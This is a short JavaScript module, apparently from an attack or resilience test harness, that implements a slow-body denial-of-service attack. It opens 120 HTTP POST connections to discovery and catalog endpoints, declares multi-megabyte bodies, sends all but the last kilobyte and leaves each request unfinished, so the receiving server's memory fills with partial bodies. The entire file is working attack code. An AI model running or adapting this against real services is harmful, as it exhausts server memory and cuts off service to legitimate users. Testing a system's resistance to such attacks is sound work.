// Bodies that never end: the received part of each stays in the receiver's memory.

const connections = 120;
const declaredBytes = 16 * 1024 * 1024;
const keptBack = 1024;

export async function stall(tools, authorization) {
  const { discoveryUrl, catalogUrl, actions, open, underWay, untilStopped } = tools;
  const routes = [
    { url: discoveryUrl, path: actions.onPull.path, bytes: declaredBytes },
    { url: discoveryUrl, path: actions.discover.path, bytes: 5_000_000 },
    { url: catalogUrl, path: actions.publish.path, bytes: 5_000_000 },
  ];
  const filler = Buffer.alloc(declaredBytes - keptBack, ' ');
  const begin = async (index) => {
    const { url, path, bytes } = routes[index % routes.length];
    const socket = await open(
      url,
      `POST ${path} HTTP/1.1\r\nhost: attacked\r\ncontent-type: application/json\r\n${authorization()}content-length: ${bytes}\r\n\r\n`,
    );
    socket?.write(filler.subarray(0, bytes - keptBack));
  };
  for (let index = 0; index < connections; index += 4)
    await Promise.all([0, 1, 2, 3].map((more) => begin(index + more)));
  underWay();
  await untilStopped();
}
